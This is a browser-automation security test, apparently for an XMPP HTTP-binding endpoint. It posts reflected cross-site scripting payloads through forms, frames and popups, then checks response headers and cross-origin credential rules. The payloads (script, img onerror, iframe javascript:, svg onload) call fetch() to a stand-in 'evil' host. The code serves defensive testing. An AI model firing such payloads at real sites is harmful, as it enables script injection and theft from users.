// A browser on a page of somebody else, which tries to have answers run or read.

import { chromium } from 'playwright-core';
import { check, checkEqual, config, main, step } from './lib.mjs';

const evil = process.env.INTEROP_EVIL;
const friend = process.env.INTEROP_FRIEND;

async function withBrowser(work) {
  const browser = await chromium.launch({
    executablePath: config.chromium,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  try {
    await work(await browser.newContext());
  } finally {
    await browser.close();
  }
}

/** The attacks that have succeeded so far. */
const marks = async () => (await (await fetch(`${evil}/marks`)).text()).split('\n').filter(Boolean).sort();

/** Elements that run something which leaves a mark, if a browser lets them. */
function payloads(name) {
  const run = `fetch('${evil}/mark/${name}',{mode:'no-cors'})`;
  const attr = run.replaceAll("'", '&apos;');
  return `<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`
    + `<img xmlns='http://www.w3.org/1999/xhtml' src='data:,' onerror='${attr}'/>`
    + `<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:${attr}'/>`
    + `<svg xmlns='http://www.w3.org/2000/svg' onload='${attr}'><script>${run}</script></svg>`;
}

/** The body of a request for a session, whose answer echoes the payloads. */
function creation(content, name) {
  return `<body rid='1' to='a' ver='1.11' hold='1' wait='1' content='${content}' xmlns='http://jabber.org/protocol/httpbind'>${payloads(name)}</body>`;
}

/** Posts a body as a form does that says text/plain, whose only field is cut at the first equals sign. */
async function postForm(page, url, body, target) {
  await page.evaluate(([url, body, target]) => {
    const at = body.indexOf('=');
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', enctype: 'text/plain', action: url, target });
    const input = document.createElement('input');
    [input.name, input.value] = [body.slice(0, at), body.slice(at + 1)];
    form.append(input);
    document.documentElement.append(form);
    form.submit();
  }, [url, body, target]);
}

const TYPES = ['text/html; charset=utf-8', 'application/xml; charset=utf-8', 'text/xml; charset=utf-8', 'text/plain; charset=utf-8'];

/** Lets all attacks loose on an endpoint, and returns their names. */
async function attack(context, path) {
  const url = `${config.http}${path}`;
  const names = [];
  for (const [i, type] of TYPES.entries()) {
    for (const how of ['top', 'iframe', 'popup']) {
      const name = `${path.slice(1)}-${type.split(';')[0].replace('/', '-')}-${how}`;
      names.push(name);
      const page = await context.newPage();
      await page.goto(`${evil}/page`);
      const answered = context.waitForEvent('response', (r) => r.url() === url && r.request().method() === 'POST');
      if (how === 'iframe') {
        await page.evaluate(() => {
          const frame = document.createElement('iframe');
          frame.name = 'victim';
          document.documentElement.append(frame);
        });
      }
      await postForm(page, url, creation(type, name), { top: '_self', iframe: 'victim', popup: '_blank' }[how]);
      const response = await answered;
      checkEqual(response.headers()['content-type'], type, `the content type of ${name}`);
      if (how !== 'iframe') check((await response.text()).includes('<script'), `the answer does not echo what ${name} posted`);
      await page.waitForTimeout(400);
      for (const open of context.pages()) await open.close();
      if (i === 0 && how === 'top') step(`${path}: a form, in ${TYPES.length} media types, at the top, in a frame, and in a window`);
    }
  }
  return names;
}

await main({
  async attacks() {
    await withBrowser(async (context) => {
      const bare = await attack(context, '/naked');
      const worked = await marks();
      check(worked.length >= 4, `without the headers only these attacks work: ${worked} of ${bare}`);
      step(`without the headers ${worked.length} of ${bare.length} attacks work`);

      await attack(context, '/open');
      checkEqual(await marks(), worked, 'what ran');

      step('navigation, scripts, styles, objects and workers by GET');
      const page = await context.newPage();
      const url = `${config.http}/open?${encodeURIComponent(payloads('get'))}`;
      await page.goto(url);
      check(await page.evaluate(() => document.contentType) === 'text/plain', 'GET is answered with a document');
      await page.goto(`${evil}/page`);
      await page.evaluate(async (url) => {
        for (const [tag, attr] of [['script', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'], ['img', 'src'], ['link', 'href']]) {
          const el = document.createElement(tag);
          if (tag === 'link') el.rel = 'stylesheet';
          el[attr] = url;
          document.documentElement.append(el);
        }
        try { new Worker(url); } catch { /* of another origin */ }
      }, url);
      await page.waitForTimeout(500);
      checkEqual(await marks(), worked, 'what ran');
    });
  },

  async origins() {
    await withBrowser(async (context) => {
      await context.addCookies([{ name: 'secret', value: 'cookie', url: config.http }]);
      const read = (page, path, credentials) => page.evaluate(async ([url, body, credentials]) => {
        try {
          return (await (await fetch(url, { method: 'POST', body, credentials, headers: { 'Content-Type': 'text/xml; charset=utf-8' } })).text());
        } catch (error) {
          return `${error}`;
        }
      }, [`${config.http}${path}`, creation('text/xml; charset=utf-8', 'origin'), credentials]);
      const reads = (text) => text.includes(' sid=');

      for (const [origin, path, credentials, may] of [
        [evil, '/open', 'omit', true],
        [evil, '/open', 'include', false],
        [evil, '/strict', 'omit', false],
        [evil, '/strict', 'include', false],
        [friend, '/strict', 'omit', true],
        [friend, '/strict', 'include', false],
        ['null', '/strict', 'omit', false],
      ]) {
        const page = await context.newPage();
        await page.goto(origin === 'null' ? 'data:text/html,<title>nobody</title>' : `${origin}/page`);
        const text = await read(page, path, credentials);
        checkEqual(reads(text), may, `${origin === friend ? 'a friend' : origin === evil ? 'a stranger' : 'nobody'} at ${path}, credentials ${credentials}: ${text.slice(0, 100)}`);
        await page.close();
      }
      step('credentials are never let in, strangers only where all are');
    });
  },
});
